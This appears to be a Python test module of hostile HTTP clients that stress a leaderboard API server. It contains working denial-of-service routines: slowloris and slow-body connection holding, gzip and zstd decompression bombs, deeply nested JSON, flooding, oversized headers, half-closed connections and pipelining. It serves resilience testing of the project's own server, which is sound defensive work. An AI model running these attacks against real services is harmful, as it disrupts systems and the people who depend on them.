"""Clients that mean harm, each run in a process of its own: `python -m tests.hostile.attacks NAME URL CREDENTIAL…`.

An attack says `ready` when it is under way and goes on until its standard input ends.
"""

import asyncio
import contextlib
import gzip
import itertools
import sys
from collections.abc import Awaitable, Callable
from urllib.parse import urlsplit

import zstandard

BODY_MAX = 1_048_576
Attack = Callable[["Target"], Awaitable[None]]


class Target:
    """The server under attack, and what the attacker holds: player tokens, or a client key."""

    def __init__(self, url: str, credentials: list[str]) -> None:
        parts = urlsplit(url)
        self.host, self.port = parts.hostname or "", parts.port or 0
        self.credentials = itertools.cycle(credentials)

    async def connect(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        return await asyncio.open_connection(self.host, self.port)

    async def send(self, request: bytes) -> bytes:
        """Send bytes, and return what comes back first; nothing when the server closes."""
        with contextlib.suppress(OSError):
            reader, writer = await self.connect()
            try:
                writer.write(request)
                return await asyncio.wait_for(reader.read(65_536), 10)
            except TimeoutError:
                return b""
            finally:
                writer.transport.abort()
        return b""

    def post(self, body: bytes, *headers: str) -> bytes:
        lines = [
            "POST /api/events HTTP/1.1",
            "Host: x",
            f"Authorization: Bearer {next(self.credentials)}",
            "Content-Type: application/json",
            f"Content-Length: {len(body)}",
            *headers,
        ]
        return "\r\n".join([*lines, "", ""]).encode() + body


def get(path: str, *headers: str) -> bytes:
    return "\r\n".join([f"GET {path} HTTP/1.1", "Host: x", *headers, "", ""]).encode()


async def slow_loris(target: Target) -> None:
    """500 connections that send a byte of a head now and then."""
    writers = [(await target.connect())[1] for _ in range(500)]
    for writer in writers:
        writer.write(b"GET /api/health/live HTTP/1.1\r\nX: ")
    say_ready()
    while True:
        for writer in writers:
            writer.write(b"a")
        await asyncio.sleep(0.5)


async def slow_bodies(target: Target) -> None:
    """200 connections that send a byte of a body now and then."""
    writers = [(await target.connect())[1] for _ in range(200)]
    for writer in writers:
        writer.write(target.post(b"[" + b" " * 1000 + b"]")[:-500])
    say_ready()
    while True:
        for writer in writers:
            writer.write(b" ")
        await asyncio.sleep(1)


async def bombs(target: Target) -> None:
    """Bodies of some kilobytes that decode to 100 MiB."""
    packed = [
        target.post(gzip.compress(b" " * 100 * BODY_MAX, 1), "Content-Encoding: gzip"),
        target.post(zstandard.compress(b" " * 100 * BODY_MAX), "Content-Encoding: zstd"),
    ]
    await over_and_over(target, packed)


async def nested(target: Target) -> None:
    """1 MiB of nested arrays, closed and not, alone and as a payload, as often as the limits let one player go on.

    Faster, it is the transfer of so many bytes that costs: a MiB of spaces takes as long.
    """
    half = BODY_MAX // 2
    await over_and_over(
        target,
        [
            target.post(b"[" * BODY_MAX),
            target.post(b"[" * half + b"]" * half),
            target.post(b'{"event_type":"t","user_id":"u","payload":' + b"[" * (half - 99) + b"]" * (half - 99) + b"}"),
        ],
        pause_seconds=0.3,
    )


async def probing(target: Target) -> None:
    """10,000 boards and users that nobody has heard of."""
    names = (
        path
        for number in itertools.count()
        for path in (f"/api/leaderboards/none-{number}", f"/api/leaderboards/global/users/nobody-{number}")
    )
    say_ready()
    while True:
        await target.send(b"".join(get(next(names)) for _ in range(50)))
        await asyncio.sleep(0.01)


async def flood(target: Target) -> None:
    """One address that asks for far more than its limit."""
    request = get("/api/leaderboards/global", f"Authorization: Bearer {next(target.credentials)}") * 20
    say_ready()
    while True:
        await target.send(request)
        await asyncio.sleep(0.01)


async def half_closed(target: Target) -> None:
    """Connections that say they will send no more, in the middle of a request, and stay."""
    say_ready()
    held: list[asyncio.StreamWriter] = []
    for number in itertools.count():
        with contextlib.suppress(OSError):
            _, writer = await target.connect()
            writer.write(target.post(b"[]" * 100)[: -(number % 150) - 1])
            writer.write_eof()
            held.append(writer)
        if len(held) > 300:
            held.pop(0).transport.abort()
        await asyncio.sleep(0.01)


async def huge_heads(target: Target) -> None:
    """Heads just below the limit and far above it, of one header and of thousands."""
    await over_and_over(
        target,
        [
            get("/api/leaderboards/global", "X: " + "a" * 60_000),
            get("/api/leaderboards/global", *(f"X-{number}: a" for number in range(4_000))),
            get("/api/leaderboards/global", "X: " + "a" * 1_000_000),
            get("/api/leaderboards/global?" + "a" * 60_000),
        ],
    )


async def pipelining(target: Target) -> None:
    """Hundreds of requests at once, of which no answer is read."""
    request = get("/schema/openapi.json") * 300
    say_ready()
    while True:
        with contextlib.suppress(OSError):
            _, writer = await target.connect()
            writer.write(request)
            await asyncio.sleep(0.2)
            writer.transport.abort()


async def over_and_over(target: Target, requests: list[bytes], pause_seconds: float = 0.03) -> None:
    say_ready()
    for request in itertools.cycle(requests):
        await target.send(request)
        # Without a pause the attack would take the machine from the client that is measured, not from the server.
        await asyncio.sleep(pause_seconds)


def say_ready() -> None:
    print("ready", flush=True)


ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (slow_loris, slow_bodies, bombs, nested, probing, flood, half_closed, huge_heads, pipelining)
}


async def _run(name: str, url: str, credentials: list[str]) -> None:
    attacking = asyncio.ensure_future(ATTACKS[name](Target(url, credentials)))
    ending = asyncio.create_task(asyncio.to_thread(sys.stdin.read))
    await asyncio.wait((attacking, ending), return_when=asyncio.FIRST_COMPLETED)
    if attacking.done():
        attacking.result()
    attacking.cancel()


if __name__ == "__main__":
    asyncio.run(_run(sys.argv[1], sys.argv[2], sys.argv[3:]))
